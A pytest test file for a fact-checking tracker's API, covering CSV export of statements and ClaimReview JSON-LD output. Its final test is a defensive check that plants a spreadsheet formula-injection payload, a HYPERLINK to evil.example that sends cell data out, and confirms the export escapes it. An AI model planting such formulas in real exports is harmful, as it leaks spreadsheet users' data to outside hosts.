"""Exports: statements as CSV under the same filters, and reviews as schema.org ClaimReview JSON-LD."""

import csv
import io

import pytest

from tracker.api.renderers import CSV_COLUMNS
from tracker.api.views import StatementViewSet
from tracker.models import Publication, Review, Speaker, Statement

from .factories import add_statement


def csv_rows(response):
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content) if response.streaming else response.content
    reader = csv.DictReader(io.StringIO(content.decode("utf-8")))
    assert reader.fieldnames == CSV_COLUMNS
    return list(reader)


def test_csv_export_has_flat_columns(api_client, data):
    response = api_client.get("/api/statements/?format=csv")
    assert response["Content-Disposition"] == 'attachment; filename="statements.csv"'
    rows = csv_rows(response)
    member = next(row for row in rows if row["id"] == str(data.member.pk))
    start, end = data.member.spans[0]
    assert member == {
        "id": str(data.member.pk),
        "text": "Ukraine will become a member of NATO",
        "kind": "direct",
        "status": "verified",
        "speaker": "Jens Stoltenberg",
        "speaker_as_written": "Jens Stoltenberg",
        "cue": "said",
        "article_title": "Allies meet in Brussels",
        "article_url": "https://times.example/brussels",
        "article_published": "2024-01-10",
        "publication": "Example Times",
        "source_kind": "speech",
        "source_title": "Summit press conference",
        "source_publisher": "Think Tank",
        "paragraph": "1",
        "spans": f"{start}-{end}",
    }
    stronger = next(row for row in rows if row["id"] == str(data.stronger.pk))
    assert (stronger["source_kind"], stronger["source_title"], stronger["source_publisher"]) == ("", "", "")


def test_csv_export_respects_filters_order_and_visibility(api_client, data, curator):
    everything = [row["id"] for row in csv_rows(api_client.get("/api/statements/?format=csv"))]
    listed = api_client.get("/api/statements/").json()["results"]
    assert everything == [str(item["id"]) for item in listed]
    assert str(data.weather.pk) not in everything
    by_jens = csv_rows(api_client.get("/api/statements/?format=csv&speaker=jens-stoltenberg&ordering=created"))
    assert [row["id"] for row in by_jens] == [str(pk) for pk in (data.member.pk, data.talks.pk, data.stronger.pk)]
    api_client.force_authenticate(curator)
    assert str(data.weather.pk) in [row["id"] for row in csv_rows(api_client.get("/api/statements/?format=csv"))]


def test_csv_export_is_not_paginated_and_streams_in_chunks(api_client, data, monkeypatch):
    monkeypatch.setattr(StatementViewSet, "csv_chunk_size", 2)
    response = api_client.get("/api/statements/?format=csv&page_size=1")
    assert response.streaming
    assert len(csv_rows(response)) == 4


def test_csv_quotes_commas_quotes_and_newlines(api_client, data):
    Statement.objects.filter(pk=data.member.pk).update(speaker_as_written='Jens "J." Stoltenberg,\nNATO')
    rows = csv_rows(api_client.get(f"/api/statements/?format=csv&speaker_id={data.jens.pk}&kind=direct"))
    assert {row["speaker_as_written"] for row in rows} == {'Jens "J." Stoltenberg,\nNATO', "Stoltenberg"}


def test_csv_of_one_statement(api_client, data):
    rows = csv_rows(api_client.get(f"/api/statements/{data.talks.pk}/?format=csv"))
    assert [row["text"] for row in rows] == ["membership talks would continue"]


def test_csv_errors_are_json(api_client, data):
    response = api_client.get("/api/statements/?format=csv&published_after=never")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()) == ["published_after"]
    # Only statements have a CSV form: elsewhere ``format=csv`` is a bad parameter value.
    unknown = api_client.get("/api/speakers/?format=csv")
    assert unknown.status_code == 400
    assert list(unknown.json()) == ["format"]


def claim_review(api_client, statement):
    response = api_client.get(f"/api/statements/{statement.pk}/claimreview/")
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "application/ld+json"
    return response.json()


def test_claimreview_document(api_client, data):
    document = claim_review(api_client, data.member)
    assert document == {
        "@context": "https://schema.org",
        "@type": "ClaimReview",
        "url": "https://factcheck.example/ukraine-nato",
        "claimReviewed": "Ukraine will become a member of NATO",
        "itemReviewed": {
            "@type": "Claim",
            "author": {
                "@type": "Person",
                "name": "Jens Stoltenberg",
                "sameAs": "https://www.wikidata.org/wiki/Q57522",
            },
            "datePublished": "2024-01-09",
            "appearance": [
                {
                    "@type": "NewsArticle",
                    "headline": "Allies meet in Brussels",
                    "url": "https://times.example/brussels",
                    "datePublished": "2024-01-10",
                    "publisher": {
                        "@type": "Organization",
                        "name": "Example Times",
                        "url": "https://times.example/",
                    },
                }
            ],
            "firstAppearance": {
                "@type": "CreativeWork",
                "name": "Summit press conference",
                "url": "https://tank.example/speech",
                "datePublished": "2024-01-09",
                "publisher": {"@type": "Organization", "name": "Think Tank", "url": "https://tank.example/"},
            },
        },
        "reviewRating": {
            "@type": "Rating",
            "ratingValue": 2,
            "bestRating": 5,
            "worstRating": 1,
            "alternateName": "Mostly false",
        },
        "reviewBody": "No invitation was issued.",
        "datePublished": "2024-01-12",
        "author": {"@type": "Organization", "name": "Claim tracker", "url": "http://testserver/"},
    }


def test_claimreview_of_an_organization_with_no_source_nor_review_page(api_client, data, settings):
    settings.TRACKER_SITE_NAME = "Example Fact Check"
    Speaker.objects.filter(pk=data.jens.pk).update(kind="organization", wikidata_id="")
    Review.objects.create(statement=data.stronger, rating="unverifiable", explanation="-", reviewed_on="2024-03-03")
    document = claim_review(api_client, data.stronger)
    assert document["itemReviewed"]["author"] == {"@type": "Organization", "name": "Jens Stoltenberg"}
    assert "firstAppearance" not in document["itemReviewed"]
    assert "datePublished" not in document["itemReviewed"]
    assert document["reviewRating"] == {
        "@type": "Rating",
        "bestRating": 5,
        "worstRating": 1,
        "alternateName": "Unverifiable",
    }
    assert document["url"] == f"http://testserver/api/statements/{data.stronger.pk}/"
    assert document["author"]["name"] == "Example Fact Check"


def test_claimreview_of_an_unattributed_statement_names_the_speaker_as_printed(api_client, data, curator):
    api_client.force_authenticate(curator)
    document = claim_review(api_client, data.weather)
    assert document["itemReviewed"]["author"] == {"@type": "Person", "name": "A spokesperson"}
    Statement.objects.filter(pk=data.weather.pk).update(speaker_as_written="")
    assert "author" not in claim_review(api_client, data.weather)["itemReviewed"]


def test_claimreview_without_a_publication(api_client, data):
    data.one.publication = None
    data.one.url = ""
    data.one.save()
    appearance = claim_review(api_client, data.member)["itemReviewed"]["appearance"]
    assert appearance == [
        {"@type": "NewsArticle", "headline": "Allies meet in Brussels", "datePublished": "2024-01-10"}
    ]


@pytest.mark.parametrize("statement", ["talks", "weather"])
def test_no_review_or_hidden_statement_is_a_json_404(api_client, data, statement):
    response = api_client.get(f"/api/statements/{getattr(data, statement).pk}/claimreview/")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert "detail" in response.json()


def test_claimreview_supports_etags(api_client, data):
    url = f"/api/statements/{data.member.pk}/claimreview/"
    etag = api_client.get(url)["ETag"]
    assert api_client.get(url, HTTP_IF_NONE_MATCH=etag).status_code == 304
    Publication.objects.filter(pk=data.times.pk).update(name="Renamed Times")
    assert api_client.get(url, HTTP_IF_NONE_MATCH=etag).status_code == 200


def test_new_statement_appears_in_export(api_client, data):
    add_statement(data.two, "Ministers gathered", speaker=data.graham, paragraph=0)
    texts = [row["text"] for row in csv_rows(api_client.get("/api/statements/?format=csv&article=" + str(data.two.pk)))]
    assert texts == ["Ministers gathered", "The alliance is stronger than ever"]


# Limits and safety of the export ----------------------------------------------------------------------------------


def test_an_anonymous_export_over_the_row_limit_is_refused(api_client, data, curator, settings):
    settings.API_CSV_ANON_MAX_ROWS = 3
    response = api_client.get("/api/statements/?format=csv")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "More than 3 statements match: an anonymous CSV export has at most 3 rows" in response.json()["format"][0]
    assert len(csv_rows(api_client.get(f"/api/statements/?format=csv&speaker_id={data.jens.pk}"))) == 3
    api_client.force_authenticate(curator)
    assert len(csv_rows(api_client.get("/api/statements/?format=csv"))) == 5


def test_exports_have_a_rate_of_their_own(api_client, data, settings):
    rates = {"anon": "100/min", "user": None, "export": "2/hour"}
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
    statuses = [api_client.get("/api/statements/?format=csv").status_code for _ in range(3)]
    assert statuses == [200, 200, 429]
    # Pages, details and a single statement's CSV are not exports.
    assert api_client.get("/api/statements/").status_code == 200
    assert api_client.get(f"/api/statements/{data.talks.pk}/?format=csv").status_code == 200


@pytest.mark.parametrize(
    ("query", "parameter"),
    [("page_size=0", "page_size"), ("page_size=abc", "page_size"), ("cursor=forged", "cursor")],
)
def test_bad_pagination_parameters_are_a_400_for_csv_too(api_client, data, query, parameter):
    response = api_client.get(f"/api/statements/?format=csv&{query}")
    assert response.status_code == 400
    assert list(response.json()) == [parameter]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_evaluate_are_escaped(api_client, data, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
    Statement.objects.filter(pk=data.member.pk).update(speaker_as_written=formula, cue=start + "said")
    rows = csv_rows(api_client.get(f"/api/statements/{data.member.pk}/?format=csv"))
    assert rows[0]["speaker_as_written"] == "'" + formula
    assert rows[0]["cue"] == "'" + start + "said"
    # Numbers and span ranges are not text to escape.
    assert rows[0]["id"] == str(data.member.pk) and not rows[0]["spans"].startswith("'")
